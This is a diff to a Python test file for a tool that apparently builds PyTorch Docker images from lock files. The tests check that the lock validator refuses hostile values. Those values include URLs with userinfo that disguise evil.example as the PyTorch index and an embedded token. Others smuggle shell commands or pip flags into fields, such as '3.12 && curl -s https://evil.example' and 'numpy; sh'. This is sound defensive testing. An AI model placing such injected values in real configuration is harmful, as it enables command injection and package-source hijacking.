@@ -28,6 +28,7 @@ from torchship.image import dockerfile as dockerfile_module
 from torchship.lock import export_requirements, read_lock
 from torchship.lock import model as lock_model
 from torchship.lock.model import pin_base, requirement_lines
+from torchship.lock.validate import is_pytorch_index, torch_version
 from torchship.spec.load import spec_from_table
 from torchship.spec.model import ImageOptions, Spec, content_hash
 
@@ -139,6 +140,10 @@ URLS = [
     "https://",
     "javascript:alert(1)",
     " https://pypi.org/simple",
+    # user info: the host is evil.example, though the URL starts as the PyTorch index's does
+    "https://download.pytorch.org@evil.example/whl/cu128",
+    "https://download.pytorch.org:443@evil.example/whl/cu128",
+    "https://token:x-oauth@mirror.example/simple",  # a credential in a shared file
 ]
 HASHES = [
     "sha256:abc",
@@ -158,6 +163,7 @@ CASES: list[tuple[str, object]] = [
     *(("environment.index_url", v) for v in URLS),
     *(("package[0].source", v) for v in URLS),
     ("environment.torch", "2.13.0 --pre"),
+    ("environment.torch", "1!2.13.0"),  # an epoch: `1!2.13.0-cu130-…` is no image tag
     ("environment.python", "3.12; id"),
     ("environment.python", "3.12\n"),
     ("environment.platform", "x86_64-manylinux_2_28\n--index-url https://evil.example/simple"),
@@ -199,6 +205,8 @@ def test_every_hostile_value_is_refused_where_the_lock_is_read(
         ("environments.cpu.index_url", "file:///srv/wheels"),
         ("environments.cpu.platform", "x86_64-manylinux_2_28 --index-url https://evil.example"),
         ("environments.cpu.torch", "2.13.0+cpu\n--extra-index-url https://evil.example"),
+        ("environments.cpu.torch", "0!2.13.0+cpu"),
+        ("environments.cpu.index_url", "https://download.pytorch.org@evil.example/whl/cpu"),
         ("environments.cpu.package[0].name", "numpy; sh"),
         ("environments.cpu.package[0].version", "1.0 --extra-index-url https://evil.example"),
         ("environments.cpu.package[0].hashes", []),
@@ -319,6 +327,8 @@ IN_MEMORY = {
     "index_url": lambda lk: dataclasses.replace(lk, index_url=URLS[2]),
     "python": lambda lk: dataclasses.replace(lk, python="3.12 && curl -s https://evil.example"),
     "platform": lambda lk: dataclasses.replace(lk, platform="x86_64-manylinux_2_28\n--pre"),
+    "userinfo": lambda lk: dataclasses.replace(lk, index_url=URLS[9]),
+    "epoch": lambda lk: dataclasses.replace(lk, torch="1!" + lk.torch),
     "version": lambda lk: dataclasses.replace(
         lk, packages=(dataclasses.replace(lk.packages[0], version=VERSIONS[1]),)
     ),
@@ -476,3 +486,35 @@ def test_the_cli_says_one_line_and_writes_nothing(tmp_path: Path, command: list[
     assert len(lines) == 2 and lines[0].startswith("error: ") and lines[1].startswith("hint: ")
     assert "environment.base_image" in lines[0] and "Traceback" not in r.stderr
     assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    ("url", "pytorch"),
+    [
+        ("https://download.pytorch.org/whl/cu128", True),
+        ("https://DOWNLOAD.PYTORCH.ORG:443/whl/cu128", True),
+        ("https://evil.example/download.pytorch.org/whl/cu128", False),
+        ("https://download.pytorch.org.evil.example/whl/cu128", False),
+        ("https://pypi.org/simple?download.pytorch.org", False),
+        ("https://pypi.org/simple", False),
+    ],
+)
+def test_the_pytorch_index_is_known_by_its_host_never_a_substring(url: str, pytorch: bool) -> None:
+    assert is_pytorch_index(url) is pytorch
+    lock = dataclasses.replace(_real(), index_url=url)
+    assert ("--extra-index-url" in export_requirements(lock)) is pytorch
+
+
+def test_a_torch_build_tag_is_fine_where_an_epoch_is_not() -> None:
+    assert torch_version("2.13.0+cpu") == "2.13.0+cpu"
+    assert torch_version("2.10.0.dev20250901+cu128") == "2.10.0.dev20250901+cu128"
+    for bad in ("1!2.13.0", "0!2.13.0"):
+        with pytest.raises(ValueError, match="epoch"):
+            torch_version(bad)
+
+
+def test_index_flags_of_lock_are_checked_like_the_lock() -> None:
+    for flag in ("--pytorch-index", "--pypi-index"):
+        r = run_cli("lock", str(REPO / "examples/quickstart"), "--dry-run", flag,
+                    "https://download.pytorch.org@evil.example/whl")  # fmt: skip
+        assert r.returncode == 2 and f"error: {flag}: " in r.stderr and "evil.example" in r.stderr
